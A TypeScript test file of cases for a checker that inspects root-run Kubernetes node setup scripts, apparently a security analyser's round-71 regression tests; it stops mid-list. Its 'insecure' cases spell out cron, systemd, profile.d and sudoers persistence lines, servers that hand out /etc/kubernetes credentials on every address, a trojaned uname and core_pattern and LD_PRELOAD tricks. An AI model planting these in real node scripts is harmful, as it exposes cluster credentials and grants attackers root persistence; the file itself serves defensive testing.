// Round 71 gaps (fix71-writes): cases earlier fixers named but nobody wrote as tests.
// 1. A root Python program (written by user data, run by root) that writes files itself: open(...).write,
//    pathlib write_text, shutil.copy into cron/systemd places.
// 2. Literal commands a program runs (Python subprocess argv, perl system LIST) that write into cron/systemd/profile/
//    sudoers places, judged like the same shell line.
// 3. A listen call whose address is a variable, beside a stray loopback literal.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** /opt/ops/setup.py (`lines`) run as root, `before` user data lines first. */
const setup = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [...before, ...heredocFile("/opt/ops/setup.py", lines), "python3 /opt/ops/setup.py"]);

/** A cron line whose job serves the kubelet's credentials (/etc/kubernetes) on 0.0.0.0:8001 as root. */
const CRON_LINE = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001";
/** A unit whose service does the same. */
const UNIT =
    "[Service]\\nExecStart=/usr/bin/python3 -m http.server 8001 -d /etc/kubernetes\\n[Install]\\nWantedBy=multi-user.target\\n";
/** A profile script, a sudoers line. */
const PROFILE = "cd /etc/kubernetes && nohup python3 -m http.server 8001 >/dev/null 2>&1 &";
const SUDOERS = "nobody ALL=(ALL) NOPASSWD: ALL";
/** User data writes /opt/ops/x.src with `line` (a file the pack reads). */
const src = (line: string) => [`echo '${line}' > /opt/ops/x.src`];
/** User data downloads /opt/ops/x.src (a file the pack cannot read). */
const DOWNLOADED = ["curl -fsSL -o /opt/ops/x.src https://downloads.example.com/x"];

/** User data writing /opt/ops/srv.py (`lines`, then a loop answering each connection with `answer`) run by root. */
const pySocket = (name: string, lines: string[], answer = 'open("/etc/kubernetes/kubelet.conf", "rb").read()') =>
    devNodeScript(name, [
        ...heredocFile("/opt/ops/srv.py", [
            ...lines,
            "s.listen()",
            "while True:",
            "    c, _ = s.accept()",
            `    c.sendall(${answer})`,
            "    c.close()",
        ]),
        "nohup python3 /opt/ops/srv.py >/var/log/srv.log 2>&1 &",
    ]);
/** User data writing /opt/ops/main.go (`body` inside main, `imports` its imports) run by `go run`, as root. */
const goMain = (name: string, imports: string[], body: string[], run = "") =>
    devNodeScript(name, [
        ...heredocFile("/opt/ops/go.mod", ["module example.com/ops", "", "go 1.22"]),
        ...heredocFile("/opt/ops/main.go", [
            "package main",
            "",
            "import (",
            ...imports.map(i => `\t"${i}"`),
            ")",
            "",
            "func main() {",
            ...body.map(l => `\t${l}`),
            "}",
        ]),
        `cd /opt/ops && nohup go run main.go${run} >/var/log/ops.log 2>&1 &`,
    ]);
const GO_SERVE_ROOT = 'http.Serve(l, http.FileServer(http.Dir("/")))';

const insecure: NodeCase[] = [
    // Controls: the shell lines themselves.
    dev(
        `control: echo '${CRON_LINE}' > /etc/cron.d/x`,
        devNodeScript("dev-g71-shell-cron-nodes", [`echo '${CRON_LINE}' > /etc/cron.d/x`]),
    ),
    dev(
        "control: cp /opt/ops/x.src (cron line) /etc/cron.d/x",
        devNodeScript("dev-g71-shell-cp-cron-nodes", [
            "mkdir -p /opt/ops",
            ...src(CRON_LINE),
            "cp /opt/ops/x.src /etc/cron.d/x",
        ]),
    ),
    dev(
        "control: cp /opt/ops/x.src (downloaded) /etc/cron.d/x",
        devNodeScript("dev-g71-shell-cp-dl-cron-nodes", [
            "mkdir -p /opt/ops",
            ...DOWNLOADED,
            "cp /opt/ops/x.src /etc/cron.d/x",
        ]),
    ),
    dev(
        "control: cp /opt/ops/x.src (sudoers line) /etc/sudoers.d/x",
        devNodeScript("dev-g71-shell-cp-sudoers-nodes", [
            "mkdir -p /opt/ops",
            ...src(SUDOERS),
            "cp /opt/ops/x.src /etc/sudoers.d/x",
        ]),
    ),
    dev(
        "control: cp /opt/ops/x.src (profile) /etc/profile.d/x.sh",
        devNodeScript("dev-g71-shell-cp-profile-nodes", [
            "mkdir -p /opt/ops",
            ...src(PROFILE),
            "cp /opt/ops/x.src /etc/profile.d/x.sh",
        ]),
    ),
    // Was a MISS (fixed in round 71): crontab(5) (/etc/cron.d files run as the user they name), systemd.unit(5) ("Unit File Load Path": /etc/systemd/system), bash(1) INVOCATION (login shells read /etc/profile and its /etc/profile.d): a root Python program that writes such a file itself (open/pathlib/shutil) writes what root runs; the pack read none of a Python program's own writes. Fix: userData.ts pythonWriteRefusal (called from pythonCommandListeners): a write (open mode w/a/x/+, os.open write flags, pathlib write_text/write_bytes/touch/rename/replace/symlink_to, shutil copy*/move, os.rename/replace/link/symlink) is accepted only into PROGRAM_DATA_PATHS (/tmp, /var/tmp, /var/log, /var/cache, /var/lib/<app>, /run/<app>) and no nodeReadsAsConfig path; a target pythonPath cannot compute is refused (fail closed).
    dev(
        'setup.py: open("/etc/cron.d/x", "w").write(cron line)',
        setup("dev-g71-py-open-cron-nodes", [`open("/etc/cron.d/x", "w").write("${CRON_LINE}\\n")`]),
    ),
    // Was a MISS (fixed in round 71): crontab(5) (/etc/cron.d files run as the user they name), systemd.unit(5) ("Unit File Load Path": /etc/systemd/system), bash(1) INVOCATION (login shells read /etc/profile and its /etc/profile.d): a root Python program that writes such a file itself (open/pathlib/shutil) writes what root runs; the pack read none of a Python program's own writes. Fix: userData.ts pythonWriteRefusal (called from pythonCommandListeners): a write (open mode w/a/x/+, os.open write flags, pathlib write_text/write_bytes/touch/rename/replace/symlink_to, shutil copy*/move, os.rename/replace/link/symlink) is accepted only into PROGRAM_DATA_PATHS (/tmp, /var/tmp, /var/log, /var/cache, /var/lib/<app>, /run/<app>) and no nodeReadsAsConfig path; a target pythonPath cannot compute is refused (fail closed).
    dev(
        'setup.py: with open("/etc/cron.d/x", "w") as f: f.write(cron line)',
        setup("dev-g71-py-with-open-cron-nodes", [
            'with open("/etc/cron.d/x", "w") as f:',
            `    f.write("${CRON_LINE}\\n")`,
        ]),
    ),
    // Was a MISS (fixed in round 71): crontab(5) (/etc/cron.d files run as the user they name), systemd.unit(5) ("Unit File Load Path": /etc/systemd/system), bash(1) INVOCATION (login shells read /etc/profile and its /etc/profile.d): a root Python program that writes such a file itself (open/pathlib/shutil) writes what root runs; the pack read none of a Python program's own writes. Fix: userData.ts pythonWriteRefusal (called from pythonCommandListeners): a write (open mode w/a/x/+, os.open write flags, pathlib write_text/write_bytes/touch/rename/replace/symlink_to, shutil copy*/move, os.rename/replace/link/symlink) is accepted only into PROGRAM_DATA_PATHS (/tmp, /var/tmp, /var/log, /var/cache, /var/lib/<app>, /run/<app>) and no nodeReadsAsConfig path; a target pythonPath cannot compute is refused (fail closed).
    dev(
        'setup.py: open(os.environ["OUT"], "w").write(cron line) (a path the pack cannot compute)',
        setup("dev-g71-py-open-env-path-nodes", ["import os", `open(os.environ["OUT"], "w").write("${CRON_LINE}\\n")`]),
    ),
    // Was a MISS (fixed in round 71): crontab(5) (/etc/cron.d files run as the user they name), systemd.unit(5) ("Unit File Load Path": /etc/systemd/system), bash(1) INVOCATION (login shells read /etc/profile and its /etc/profile.d): a root Python program that writes such a file itself (open/pathlib/shutil) writes what root runs; the pack read none of a Python program's own writes. Fix: userData.ts pythonWriteRefusal (called from pythonCommandListeners): a write (open mode w/a/x/+, os.open write flags, pathlib write_text/write_bytes/touch/rename/replace/symlink_to, shutil copy*/move, os.rename/replace/link/symlink) is accepted only into PROGRAM_DATA_PATHS (/tmp, /var/tmp, /var/log, /var/cache, /var/lib/<app>, /run/<app>) and no nodeReadsAsConfig path; a target pythonPath cannot compute is refused (fail closed).
    dev(
        'setup.py: pathlib.Path("/etc/systemd/system/x.service").write_text(unit)',
        setup("dev-g71-py-pathlib-unit-nodes", [
            "import pathlib",
            `pathlib.Path("/etc/systemd/system/x.service").write_text("${UNIT}")`,
        ]),
    ),
    // Was a MISS (fixed in round 71): crontab(5) (/etc/cron.d files run as the user they name), systemd.unit(5) ("Unit File Load Path": /etc/systemd/system), bash(1) INVOCATION (login shells read /etc/profile and its /etc/profile.d): a root Python program that writes such a file itself (open/pathlib/shutil) writes what root runs; the pack read none of a Python program's own writes. Fix: userData.ts pythonWriteRefusal (called from pythonCommandListeners): a write (open mode w/a/x/+, os.open write flags, pathlib write_text/write_bytes/touch/rename/replace/symlink_to, shutil copy*/move, os.rename/replace/link/symlink) is accepted only into PROGRAM_DATA_PATHS (/tmp, /var/tmp, /var/log, /var/cache, /var/lib/<app>, /run/<app>) and no nodeReadsAsConfig path; a target pythonPath cannot compute is refused (fail closed).
    dev(
        'setup.py: Path("/etc/profile.d/x.sh").write_text(profile)',
        setup("dev-g71-py-pathlib-profile-nodes", [
            "from pathlib import Path",
            `Path("/etc/profile.d/x.sh").write_text("${PROFILE}\\n")`,
        ]),
    ),
    // Was a MISS (fixed in round 71): crontab(5) (/etc/cron.d files run as the user they name), systemd.unit(5) ("Unit File Load Path": /etc/systemd/system), bash(1) INVOCATION (login shells read /etc/profile and its /etc/profile.d): a root Python program that writes such a file itself (open/pathlib/shutil) writes what root runs; the pack read none of a Python program's own writes. Fix: userData.ts pythonWriteRefusal (called from pythonCommandListeners): a write (open mode w/a/x/+, os.open write flags, pathlib write_text/write_bytes/touch/rename/replace/symlink_to, shutil copy*/move, os.rename/replace/link/symlink) is accepted only into PROGRAM_DATA_PATHS (/tmp, /var/tmp, /var/log, /var/cache, /var/lib/<app>, /run/<app>) and no nodeReadsAsConfig path; a target pythonPath cannot compute is refused (fail closed).
    dev(
        'setup.py: shutil.copy("/opt/ops/x.src" (cron line), "/etc/cron.d/x")',
        setup(
            "dev-g71-py-shutil-cron-nodes",
            ["import shutil", 'shutil.copy("/opt/ops/x.src", "/etc/cron.d/x")'],
            ["mkdir -p /opt/ops", ...src(CRON_LINE)],
        ),
    ),
    // Was a MISS (fixed in round 71): crontab(5) (/etc/cron.d files run as the user they name), systemd.unit(5) ("Unit File Load Path": /etc/systemd/system), bash(1) INVOCATION (login shells read /etc/profile and its /etc/profile.d): a root Python program that writes such a file itself (open/pathlib/shutil) writes what root runs; the pack read none of a Python program's own writes. Fix: userData.ts pythonWriteRefusal (called from pythonCommandListeners): a write (open mode w/a/x/+, os.open write flags, pathlib write_text/write_bytes/touch/rename/replace/symlink_to, shutil copy*/move, os.rename/replace/link/symlink) is accepted only into PROGRAM_DATA_PATHS (/tmp, /var/tmp, /var/log, /var/cache, /var/lib/<app>, /run/<app>) and no nodeReadsAsConfig path; a target pythonPath cannot compute is refused (fail closed).
    dev(
        'setup.py: shutil.copy("/opt/ops/x.src" (downloaded), "/etc/cron.d/x")',
        setup(
            "dev-g71-py-shutil-dl-cron-nodes",
            ["import shutil", 'shutil.copy("/opt/ops/x.src", "/etc/cron.d/x")'],
            ["mkdir -p /opt/ops", ...DOWNLOADED],
        ),
    ),
    // Was a MISS (fixed in round 71): the same shell line (cp/tee into /etc/cron.d, /etc/sudoers.d, /etc/profile.d, /etc/systemd/system) is judged by what it writes (rootReads copy/piped); a program's literal argv was judged for listeners only (userData.ts literalCommandListeners). Fix: a literal command that may write what it names (not keepsContent) naming a nodeReadsAsConfig path is an unread program (fail closed).
    dev(
        'setup.py: subprocess.run(["cp", "/opt/ops/x.src" (cron line), "/etc/cron.d/x"])',
        setup(
            "dev-g71-py-sub-cp-cron-nodes",
            ["import subprocess", 'subprocess.run(["cp", "/opt/ops/x.src", "/etc/cron.d/x"], check=True)'],
            ["mkdir -p /opt/ops", ...src(CRON_LINE)],
        ),
    ),
    // Was a MISS (fixed in round 71): the same shell line (cp/tee into /etc/cron.d, /etc/sudoers.d, /etc/profile.d, /etc/systemd/system) is judged by what it writes (rootReads copy/piped); a program's literal argv was judged for listeners only (userData.ts literalCommandListeners). Fix: a literal command that may write what it names (not keepsContent) naming a nodeReadsAsConfig path is an unread program (fail closed).
    dev(
        'setup.py: subprocess.run(["cp", "/opt/ops/x.src" (downloaded), "/etc/cron.d/x"])',
        setup(
            "dev-g71-py-sub-cp-dl-cron-nodes",
            ["import subprocess", 'subprocess.run(["cp", "/opt/ops/x.src", "/etc/cron.d/x"], check=True)'],
            ["mkdir -p /opt/ops", ...DOWNLOADED],
        ),
    ),
    // Was a MISS (fixed in round 71): the same shell line (cp/tee into /etc/cron.d, /etc/sudoers.d, /etc/profile.d, /etc/systemd/system) is judged by what it writes (rootReads copy/piped); a program's literal argv was judged for listeners only (userData.ts literalCommandListeners). Fix: a literal command that may write what it names (not keepsContent) naming a nodeReadsAsConfig path is an unread program (fail closed).
    dev(
        'setup.py: subprocess.run(["tee", "/etc/cron.d/x"], input=cron line)',
        setup("dev-g71-py-sub-tee-cron-nodes", [
            "import subprocess",
            `subprocess.run(["tee", "/etc/cron.d/x"], input="${CRON_LINE}\\n", text=True, check=True)`,
        ]),
    ),
    // Was a MISS (fixed in round 71): the same shell line (cp/tee into /etc/cron.d, /etc/sudoers.d, /etc/profile.d, /etc/systemd/system) is judged by what it writes (rootReads copy/piped); a program's literal argv was judged for listeners only (userData.ts literalCommandListeners). Fix: a literal command that may write what it names (not keepsContent) naming a nodeReadsAsConfig path is an unread program (fail closed).
    dev(
        'setup.py: subprocess.run(["cp", "/opt/ops/x.src" (sudoers line), "/etc/sudoers.d/x"])',
        setup(
            "dev-g71-py-sub-cp-sudoers-nodes",
            ["import subprocess", 'subprocess.run(["cp", "/opt/ops/x.src", "/etc/sudoers.d/x"], check=True)'],
            ["mkdir -p /opt/ops", ...src(SUDOERS)],
        ),
    ),
    // Was a MISS (fixed in round 71): the same shell line (cp/tee into /etc/cron.d, /etc/sudoers.d, /etc/profile.d, /etc/systemd/system) is judged by what it writes (rootReads copy/piped); a program's literal argv was judged for listeners only (userData.ts literalCommandListeners). Fix: a literal command that may write what it names (not keepsContent) naming a nodeReadsAsConfig path is an unread program (fail closed).
    dev(
        'setup.py: subprocess.run(["cp", "/opt/ops/x.src" (profile), "/etc/profile.d/x.sh"])',
        setup(
            "dev-g71-py-sub-cp-profile-nodes",
            ["import subprocess", 'subprocess.run(["cp", "/opt/ops/x.src", "/etc/profile.d/x.sh"], check=True)'],
            ["mkdir -p /opt/ops", ...src(PROFILE)],
        ),
    ),
    // Was a MISS (fixed in round 71): the same shell line (cp/tee into /etc/cron.d, /etc/sudoers.d, /etc/profile.d, /etc/systemd/system) is judged by what it writes (rootReads copy/piped); a program's literal argv was judged for listeners only (userData.ts literalCommandListeners). Fix: a literal command that may write what it names (not keepsContent) naming a nodeReadsAsConfig path is an unread program (fail closed).
    dev(
        'setup.py: subprocess.run(["cp", "/opt/ops/x.src" (downloaded), "/etc/systemd/system/x.service"])',
        setup(
            "dev-g71-py-sub-cp-unit-nodes",
            [
                "import subprocess",
                'subprocess.run(["cp", "/opt/ops/x.src", "/etc/systemd/system/x.service"], check=True)',
            ],
            ["mkdir -p /opt/ops", ...DOWNLOADED],
        ),
    ),
    // Was a MISS (fixed in round 71): perlfunc system LIST ("calls execvp(3) with the arguments in LIST"): `cp /opt/ops/x.src /etc/cron.d/x` as root installs the written @reboot job (http.server on /etc/kubernetes, 0.0.0.0:8001: crontab(5)). A perl SCRIPT FILE's literal system() goes through literalCommandListeners (fixed above); `perl -e CODE` is not read by literalScriptCommands (sourceRunnerListeners reads .pl/.rb files only), so the argv is judged by neither. Accepted (got []).
    // Fix (round 71): userData.ts inlineScriptListeners reads `perl -e`/`-E` and `ruby -e` code as the file form is (literalScriptCommands, literalCommandListeners with its nodeReadsAsConfig rule); other process starts are an unread program.
    dev(
        `perl -e 'system("cp", "/opt/ops/x.src" (cron line), "/etc/cron.d/x")'`,
        devNodeScript("dev-g71-perl-system-cp-cron-nodes", [
            "mkdir -p /opt/ops",
            ...src(CRON_LINE),
            `perl -e 'system("cp", "/opt/ops/x.src", "/etc/cron.d/x")'`,
        ]),
    ),
    // Was a MISS (fixed in round 71): the same shell line (cp/tee into /etc/cron.d, /etc/sudoers.d, /etc/profile.d, /etc/systemd/system) is judged by what it writes (rootReads copy/piped); a program's literal argv was judged for listeners only (userData.ts literalCommandListeners). Fix: a literal command that may write what it names (not keepsContent) naming a nodeReadsAsConfig path is an unread program (fail closed).
    dev(
        `perl /opt/ops/setup.pl: system("cp", "/opt/ops/x.src" (downloaded), "/etc/cron.d/x")`,
        devNodeScript("dev-g71-perl-file-system-cp-cron-nodes", [
            ...DOWNLOADED.map(l => l),
            ...heredocFile("/opt/ops/setup.pl", [`system("cp", "/opt/ops/x.src", "/etc/cron.d/x");`]),
            "perl /opt/ops/setup.pl",
        ]),
    ),
    // Was a MISS (fixed in round 71): Python docs socket ("AF_INET ... '' represents INADDR_ANY"; bind(address) binds the host given): host from the environment defaults to 0.0.0.0, so root serves the kubelet's kubeconfig to every pod. The pack reads a raw socket.bind whose host is a name beside a stray loopback literal (UPSTREAM) as loopback, or not as a listener at all. Accepted (got []).
    // Fix (round 71): userData.ts pythonSocketListeners reads a Python program's own listening sockets (socket .bind, create_server, asyncio start_server/create_server) as unread programs bound where the call's own address says (a literal, or a name assigned one: pythonValue); anything else every address.
    dev(
        'srv.py: host = os.environ.get("H", "0.0.0.0"); s.bind((host, 8080)) beside a stray "127.0.0.1"',
        devNodeScript("dev-g71-py-bind-env-host-nodes", [
            ...heredocFile("/opt/ops/srv.py", [
                "import os, socket",
                'UPSTREAM = "127.0.0.1"',
                'host = os.environ.get("H", "0.0.0.0")',
                "s = socket.socket()",
                "s.bind((host, 8080))",
                "s.listen()",
                "while True:",
                "    c, _ = s.accept()",
                '    c.sendall(open("/etc/kubernetes/kubelet.conf", "rb").read())',
                "    c.close()",
            ]),
            "nohup python3 /opt/ops/srv.py >/var/log/srv.log 2>&1 &",
        ]),
    ),
    dev(
        'srv.py: HTTPServer((host, 8080), SimpleHTTPRequestHandler) with host from the environment beside "127.0.0.1"',
        devNodeScript("dev-g71-py-httpserver-env-host-nodes", [
            ...heredocFile("/opt/ops/srv.py", [
                "import os",
                "from http.server import HTTPServer, SimpleHTTPRequestHandler",
                'UPSTREAM = "127.0.0.1"',
                'host = os.environ.get("H", "0.0.0.0")',
                "HTTPServer((host, 8080), SimpleHTTPRequestHandler).serve_forever()",
            ]),
            "cd /etc/kubernetes && nohup python3 /opt/ops/srv.py >/var/log/srv.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 71): pkg.go.dev net.Listen ("If the host in the address parameter is empty ... Listen listens on all available unicast and anycast IP addresses"): ADDR unset or ":8080" serves / on every address as root. userData.ts sourcesListeners takes a LISTEN_API call beside any loopback literal of the source (the stray `upstream`) as a loopback listener; round 70 read only the every-address constants, not a variable address. Accepted (got []).
    // Fix (round 71): userData.ts goListenAddressUnknown: a Go listen call (net.Listen*, ListenAndServe*, http.Server Addr) whose own address is not a literal, a name bound once to one, or net's address constructors of those binds every address (sourcesListeners), whatever loopback literal the source holds elsewhere.
    dev(
        'go run: net.Listen("tcp", addr) with addr from os.Getenv beside a stray "127.0.0.1"',
        devNodeScript("dev-g71-go-listen-var-nodes", [
            ...heredocFile("/opt/ops/go.mod", ["module example.com/ops", "", "go 1.22"]),
            ...heredocFile("/opt/ops/main.go", [
                "package main",
                "",
                "import (",
                '\t"net"',
                '\t"net/http"',
                '\t"os"',
                ")",
                "",
                "func main() {",
                '\tupstream := "127.0.0.1"',
                "\t_ = upstream",
                '\taddr := os.Getenv("ADDR")',
                '\tl, _ := net.Listen("tcp", addr)',
                '\thttp.Serve(l, http.FileServer(http.Dir("/")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Neighbours of the round-71 fix (pythonWriteRefusal, literalCommandListeners), insecure side.
    dev(
        'setup.py: OUT = "/etc/cron.d/x"; open(OUT, "a").write(cron line) (a name holding the path)',
        setup("dev-g71n-py-open-name-cron-nodes", ['OUT = "/etc/cron.d/x"', `open(OUT, "a").write("${CRON_LINE}\\n")`]),
    ),
    dev(
        'setup.py: Path("/etc/cron.d") / "x" .write_text(cron line) (a directory joined)',
        setup("dev-g71n-py-path-join-cron-nodes", [
            "from pathlib import Path",
            `(Path("/etc/cron.d") / "x").write_text("${CRON_LINE}\\n")`,
        ]),
    ),
    dev(
        'setup.py: open("/usr/local/bin/uname", "w") (a program root runs; not a data path)',
        setup("dev-g71n-py-open-usr-local-bin-nodes", [
            `with open("/usr/local/bin/uname", "w") as f:`,
            `    f.write("#!/bin/sh\\n${CRON_LINE.replace("@reboot root ", "")}\\n")`,
        ]),
    ),
    dev(
        'setup.py: shutil.copy("/opt/ops/x.src", "/var/lib/kubelet/config.json") (node state under /var/lib)',
        setup(
            "dev-g71n-py-shutil-kubelet-nodes",
            ["import shutil", 'shutil.copy("/opt/ops/x.src", "/var/lib/kubelet/config.json")'],
            ["mkdir -p /opt/ops", ...src("{}")],
        ),
    ),
    dev(
        'setup.py: open(sys.argv[1], "w") (a path the pack cannot compute)',
        setup("dev-g71n-py-open-argv-nodes", ["import sys", 'open(sys.argv[1], "w").write("x")']),
    ),
    dev(
        'setup.py: subprocess.run(["install", "-m", "0644", "/opt/ops/x.src", "/etc/cron.d/x"])',
        setup(
            "dev-g71n-py-sub-install-cron-nodes",
            [
                "import subprocess",
                'subprocess.run(["install", "-m", "0644", "/opt/ops/x.src", "/etc/cron.d/x"], check=True)',
            ],
            ["mkdir -p /opt/ops", ...src(CRON_LINE)],
        ),
    ),
    dev(
        'setup.py: subprocess.run(["cp", "x.src", "x"], cwd="/etc/cron.d") (a relative destination in cwd=)',
        setup(
            "dev-g71n-py-sub-cp-cwd-cron-nodes",
            ["import subprocess", 'subprocess.run(["cp", "/opt/ops/x.src", "x"], cwd="/etc/cron.d", check=True)'],
            ["mkdir -p /opt/ops", ...src(CRON_LINE)],
        ),
    ),
    dev(
        'setup.py: open("/etc/sysctl.d/99-x.conf", "w") (the node\'s own /etc directory: kernel.core_pattern may run a program)',
        setup("dev-g71n-py-open-sysctl-nodes", [
            'open("/etc/sysctl.d/99-x.conf", "w").write("kernel.core_pattern=|/opt/ops/x\\n")',
        ]),
    ),
    // Neighbours of the round-71 listen-address fix (pythonSocketListeners, goListenAddressUnknown, inlineScriptListeners),
    // insecure side: the address of the listen call itself decides.
    dev(
        'srv.py: s.bind(("0.0.0.0", 8080)) (a plain socket on every address)',
        pySocket("dev-g71n-py-bind-any-nodes", ["import socket", "s = socket.socket()", 's.bind(("0.0.0.0", 8080))']),
    ),
    dev(
        'srv.py: s.bind(("", 8080)) (the empty host is INADDR_ANY)',
        pySocket("dev-g71n-py-bind-empty-nodes", ["import socket", "s = socket.socket()", 's.bind(("", 8080))']),
    ),
    dev(
        'srv.py: HOST = "0.0.0.0"; s.bind((HOST, 8080)) beside a stray "127.0.0.1"',
        pySocket("dev-g71n-py-bind-any-const-nodes", [
            "import socket",
            'UPSTREAM = "127.0.0.1"',
            'HOST = "0.0.0.0"',
            "s = socket.socket()",
            "s.bind((HOST, 8080))",
        ]),
    ),
    dev(
        'srv.py: host = "127.0.0.1" then host = sys.argv[1] (a name assigned twice)',
        pySocket("dev-g71n-py-bind-reassigned-nodes", [
            "import socket, sys",
            'host = "127.0.0.1"',
            "if len(sys.argv) > 1:",
            "    host = sys.argv[1]",
            "s = socket.socket()",
            "s.bind((host, 8080))",
        ]),
    ),
    dev(
        'srv.py: s.bind((f"{PREFIX}.0.1", 8080)) (an f-string host)',
        pySocket("dev-g71n-py-bind-fstring-nodes", [
            "import socket",
            'PREFIX = "127.0"',
            "s = socket.socket()",
            's.bind((f"{PREFIX}.0.1", 8080))',
        ]),
    ),
    dev(
        'srv.py: s = socket.create_server(("0.0.0.0", 8080))',
        pySocket("dev-g71n-py-create-server-any-nodes", [
            "import socket",
            'UPSTREAM = "127.0.0.1"',
            's = socket.create_server(("0.0.0.0", 8080))',
        ]),
    ),
    dev(
        "srv.py: asyncio.start_server(handle, port=8080) (no host: every interface)",
        devNodeScript("dev-g71n-py-asyncio-any-nodes", [
            ...heredocFile("/opt/ops/srv.py", [
                "import asyncio",
                'UPSTREAM = "127.0.0.1"',
                "async def handle(r, w):",
                '    w.write(open("/etc/kubernetes/kubelet.conf", "rb").read())',
                "    await w.drain()",
                "    w.close()",
                "async def main():",
                "    server = await asyncio.start_server(handle, port=8080)",
                "    await server.serve_forever()",
                "asyncio.run(main())",
            ]),
            "nohup python3 /opt/ops/srv.py >/var/log/srv.log 2>&1 &",
        ]),
    ),
    dev(
        'go run: http.ListenAndServe(os.Getenv("ADDR"), ...) beside a stray "127.0.0.1"',
        goMain(
            "dev-g71n-go-listen-getenv-nodes",
            ["net/http", "os"],
            [
                'upstream := "127.0.0.1"',
                "_ = upstream",
                'http.ListenAndServe(os.Getenv("ADDR"), http.FileServer(http.Dir("/")))',
            ],
        ),
    ),
    dev(
        'go run: addr := "127.0.0.1:8080", then addr = os.Getenv("ADDR") when set (a name assigned twice)',
        goMain(
            "dev-g71n-go-listen-reassigned-nodes",
            ["net", "net/http", "os"],
            [
                'addr := "127.0.0.1:8080"',
                'if v := os.Getenv("ADDR"); v != "" {',
                "\taddr = v",
                "}",
                'l, _ := net.Listen("tcp", addr)',
                GO_SERVE_ROOT,
            ],
        ),
    ),
    // fix71-bindvar: run with -addr "$ADDR" (a value the pack cannot know); with no arguments the flag's default
    // is the address (redteam70-nsec "go run main.go (no flags)", accepted).
    dev(
        'go run main.go -addr "$ADDR": addr := flag.String("addr", "127.0.0.1:8080", ...); net.Listen("tcp", *addr) (argv decides)',
        goMain(
            "dev-g71n-go-listen-flag-nodes",
            ["flag", "net", "net/http"],
            [
                'addr := flag.String("addr", "127.0.0.1:8080", "listen address")',
                "flag.Parse()",
                'l, _ := net.Listen("tcp", *addr)',
                GO_SERVE_ROOT,
            ],
            ' -addr "$ADDR"',
        ),
    ),
    dev(
        'go run: &http.Server{Addr: os.Getenv("ADDR")} beside a stray "127.0.0.1"',
        goMain(
            "dev-g71n-go-server-addr-env-nodes",
            ["net/http", "os"],
            [
                'upstream := "127.0.0.1"',
                "_ = upstream",
                'srv := &http.Server{Addr: os.Getenv("ADDR"), Handler: http.FileServer(http.Dir("/"))}',
                "srv.ListenAndServe()",
            ],
        ),
    ),
    dev(
        `ruby -e 'system("cp", "/opt/ops/x.src" (cron line), "/etc/cron.d/x")'`,
        devNodeScript("dev-g71n-ruby-system-cp-cron-nodes", [
            "mkdir -p /opt/ops",
            ...src(CRON_LINE),
            `ruby -e 'system("cp", "/opt/ops/x.src", "/etc/cron.d/x")'`,
        ]),
    ),
    dev(
        `perl -E 'system "cp", "/opt/ops/x.src", "/etc/sudoers.d/x"' (sudoers line; -E, no parentheses)`,
        devNodeScript("dev-g71n-perl-E-cp-sudoers-nodes", [
            "mkdir -p /opt/ops",
            ...src(SUDOERS),
            `perl -E 'system "cp", "/opt/ops/x.src", "/etc/sudoers.d/x"'`,
        ]),
    ),
    dev(
        `cd /etc/kubernetes && perl -e 'system("python3", "-m", "http.server", "8001")' (a listener it starts)`,
        devNodeScript("dev-g71n-perl-system-http-server-nodes", [
            `cd /etc/kubernetes && perl -e 'system("python3", "-m", "http.server", "8001")'`,
        ]),
    ),
    dev(
        `perl -e 'system(@ARGV)' cp /opt/ops/x.src /etc/cron.d/x (words the code does not spell)`,
        devNodeScript("dev-g71n-perl-system-argv-nodes", [
            "mkdir -p /opt/ops",
            ...src(CRON_LINE),
            `perl -e 'system(@ARGV)' cp /opt/ops/x.src /etc/cron.d/x`,
        ]),
    ),
    dev(
        `perl -e '$ENV{TZ} = "UTC"; system("cp", "/opt/ops/x.src", "/etc/cron.d/x")' (a harmless variable hides no write)`,
        devNodeScript("dev-g71n-perl-env-tz-cp-cron-nodes", [
            "mkdir -p /opt/ops",
            ...src(CRON_LINE),
            `perl -e '$ENV{TZ} = "UTC"; system("cp", "/opt/ops/x.src", "/etc/cron.d/x")'`,
        ]),
    ),
    dev(
        `perl -e '$ENV{PATH} = "/opt/ops"; system("date")' (PATH chooses the program: not read)`,
        devNodeScript("dev-g71n-perl-env-path-nodes", [
            "mkdir -p /opt/ops",
            ...DOWNLOADED,
            `perl -e '$ENV{PATH} = "/opt/ops"; system("date")'`,
        ]),
    ),
    dev(
        `ruby -e 'system({"LD_PRELOAD" => "/opt/ops/x.so"}, "date")' (a loader variable: not read)`,
        devNodeScript("dev-g71n-ruby-env-hash-preload-nodes", [
            "mkdir -p /opt/ops",
            "curl -fsSL -o /opt/ops/x.so https://downloads.example.com/x.so",
            `ruby -e 'system({"LD_PRELOAD" => "/opt/ops/x.so"}, "date")'`,
        ]),
    ),
];

const secure: NodeCase[] = [
    // Round 82 (DECIDED): a /var/lib directory is a program's data only when named after it or made by the user data
    // (pythonCode.ts madeForProgram): one only the program makes (os.makedirs, exist_ok) may be a root reader's own.
    dev(
        'setup.py: open("/var/lib/app/x.json", "w").write(...)',
        setup(
            "dev-g71-py-open-data-ok-nodes",
            ["import os", 'os.makedirs("/var/lib/app", exist_ok=True)', 'open("/var/lib/app/x.json", "w").write("{}")'],
            ["mkdir -p /var/lib/app"],
        ),
    ),
    dev(
        'setup.py: pathlib.Path("/tmp/x").write_text("ok")',
        setup("dev-g71-py-pathlib-tmp-ok-nodes", ["import pathlib", 'pathlib.Path("/tmp/x").write_text("ok")']),
    ),
    dev(
        'setup.py: subprocess.run(["cp", "/opt/ops/a.json", "/var/lib/app/a.json"])',
        setup("dev-g71-py-sub-cp-data-ok-nodes", [
            "import subprocess",
            'subprocess.run(["cp", "/opt/ops/a.json", "/var/lib/app/a.json"], check=True)',
        ]),
    ),
    dev(
        'srv.py: s.bind(("127.0.0.1", 8080))',
        devNodeScript("dev-g71-py-bind-loopback-ok-nodes", [
            ...heredocFile("/opt/ops/srv.py", [
                "import socket",
                "s = socket.socket()",
                's.bind(("127.0.0.1", 8080))',
                "s.listen()",
                "while True:",
                "    c, _ = s.accept()",
                '    c.sendall(b"ok")',
                "    c.close()",
            ]),
